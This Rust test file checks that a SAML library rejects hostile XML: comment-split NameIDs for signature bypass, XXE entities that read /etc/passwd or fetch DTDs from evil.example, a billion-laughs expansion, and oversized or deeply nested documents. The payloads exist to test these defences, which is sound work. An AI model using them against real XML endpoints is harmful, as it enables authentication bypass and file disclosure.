//! Documents that are more than they seem, or more than they may be.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

use super::idp::{Answer, Over, REQUEST, accept, noon, plan, refused, service};
use crate::{Expected, Fault, Provider, peek};

#[test]
fn a_comment_does_not_cut_a_name() {
    // Signed as a whole; the digest leaves comments out, so the signature stays right.
    let answer = Answer {
        subject: "<saml:NameID>admin@example.com.evil.example</saml:NameID>".to_owned(),
        ..Answer::default()
    };
    let document = answer.signed(Over::Both);
    assert_eq!(accept(&document).unwrap().subject, "admin@example.com.evil.example");
    for comment in ["<!---->", "<!-- x -->"] {
        let cut = format!("admin@example.com{comment}.evil.example");
        let document = document.replace("admin@example.com.evil.example", &cut);
        assert_eq!(accept(&document), Err(Fault::NotPlain("a comment")));
    }
    let document = Answer::default().signed(Over::Both);
    let cut = document.replace(">people<", ">peo<!-- -->ple<");
    assert_eq!(accept(&cut), Err(Fault::NotPlain("a comment")));
    let digest = document.replace("<ds:DigestValue>", "<ds:DigestValue><!-- x -->");
    assert_eq!(accept(&digest), Err(Fault::NotPlain("a comment")));
}

#[test]
fn a_name_in_pieces_is_one_name() {
    let document = Answer::default().signed(Over::Both);
    // The same text, written otherwise: the digest is over what it means.
    let other = document
        .replace(">alice@example.com</saml:NameID>", ">a&#108;ice@example.com</saml:NameID>");
    assert_ne!(other, document);
    assert_eq!(accept(&other).unwrap().subject, "alice@example.com");
    let data = document.replace(">people<", "><![CDATA[people]]><");
    assert_eq!(accept(&data), Err(Fault::NotPlain("a CDATA section")));
    let instruction = document.replace(">people<", ">peo<?x y?>ple<");
    assert_eq!(accept(&instruction), Err(Fault::NotPlain("a processing instruction")));
}

#[test]
fn document_types_and_entities_are_refused_before_they_are_parsed() {
    let document = Answer::default().signed(Over::Both);
    let laughs = "<!DOCTYPE r [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">\
                  <!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]>";
    for prefix in [
        "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
        "<!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\">",
        "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil.example/p\"> %p;]>",
        "<!DOCTYPE r [<!ATTLIST saml:Assertion ID ID #IMPLIED>]>",
        laughs,
    ] {
        let fault = accept(&format!("{prefix}{document}"));
        assert_eq!(fault, Err(Fault::NotPlain("a document type or an entity")));
        let declared = format!("<?xml version=\"1.0\"?>{prefix}{document}");
        assert_eq!(accept(&declared), Err(Fault::NotPlain("a document type or an entity")));
    }
    let undeclared = document.replace(">people<", ">&people;<");
    assert!(matches!(accept(&undeclared), Err(Fault::Malformed(_))));
}

#[test]
fn a_declaration_and_space_around_change_nothing() {
    let document = Answer::default().signed(Over::Both);
    let declared = format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n{document}\n");
    assert!(accept(&declared).is_ok());
}

#[test]
fn long_deep_and_wide_documents_are_refused() {
    let long = |bytes: usize| Answer { after_assertion: "x".repeat(bytes), ..Answer::default() };
    assert!(accept(&long(200 * 1024).signed(Over::Assertion)).is_ok());
    assert_eq!(accept(&long(256 * 1024).signed(Over::Assertion)), Err(Fault::Large(256)));
    let letters = "A".repeat(1 << 20);
    let provider = Provider::new(plan(), service()).unwrap();
    let expected = Expected::Request(REQUEST);
    let fault = provider.accept(&letters, noon(), expected, &mut |_, _| Ok(true));
    assert_eq!(fault, Err(Fault::Large(256)));
    assert_eq!(peek(&letters), Err(Fault::Large(256)));

    let deep = format!("{}{}", "<x>".repeat(40), "</x>".repeat(40));
    let deep = Answer { after_assertion: deep, ..Answer::default() }.signed(Over::Assertion);
    assert!(refused(&deep).contains("32 elements"));
    let wide = format!("<x{}/>", (0..65).map(|i| format!(" a{i}=\"\"")).collect::<String>());
    let wide = Answer { after_assertion: wide, ..Answer::default() }.signed(Over::Assertion);
    assert!(refused(&wide).contains("64 attributes"));
}

/// Canonicalization repeats namespaces, so a document could ask for gigabytes of it.
#[test]
fn long_and_many_namespaces_are_refused() {
    let of = |more: String| {
        Answer { after_assertion: more, ..Answer::default() }.signed(Over::Assertion)
    };
    let long = of(format!("<x xmlns:l=\"urn:{}\"/>", "l".repeat(300)));
    assert!(refused(&long).contains("namespace of more than 256 bytes"));
    let many: String = (0..40).map(|i| format!("<x xmlns:p{i}=\"urn:p\"/>")).collect();
    assert!(refused(&of(many)).contains("more than 32 prefixes"));
}

#[test]
fn what_is_no_answer_is_none() {
    let provider = Provider::new(plan(), service()).unwrap();
    let accept = |letters: &str| {
        let expected = Expected::Request(REQUEST);
        provider.accept(letters, noon(), expected, &mut |_, _| Ok(true)).unwrap_err()
    };
    assert_eq!(accept("%%%"), Fault::Encoding);
    assert!(matches!(accept(""), Fault::Malformed(_)));
    for document in ["<a/>", "text", "<a>", "<samlp:Response/>", "<a/><b/>"] {
        let fault = accept(&STANDARD.encode(document));
        assert!(matches!(fault, Fault::Malformed(_)), "{document}: {fault}");
    }
    // The same names in no namespace, or in another, are others.
    let document = Answer::default().signed(Over::Both);
    let other = document.replace("urn:oasis:names:tc:SAML:2.0:protocol", "urn:other");
    assert!(refused(&other).contains("it is a Response, and no Response"));
}

#[test]
fn whose_answer_it_says_it_is_can_be_read_without_a_key() {
    let response = STANDARD.encode(Answer::default().signed(Over::Nothing));
    assert_eq!(peek(&response).unwrap().issuer, super::idp::IDP);
    let mut broken = response;
    broken.insert_str(10, "\r\n");
    assert_eq!(peek(&broken).unwrap().issuer, super::idp::IDP, "lines are broken in forms");
    let answer = Answer::default();
    let assertion = answer.around("", "").replace("samlp:Response", "samlp:ArtifactResponse");
    assert!(peek(&STANDARD.encode(assertion)).unwrap_err().to_string().contains("no Response"));
}
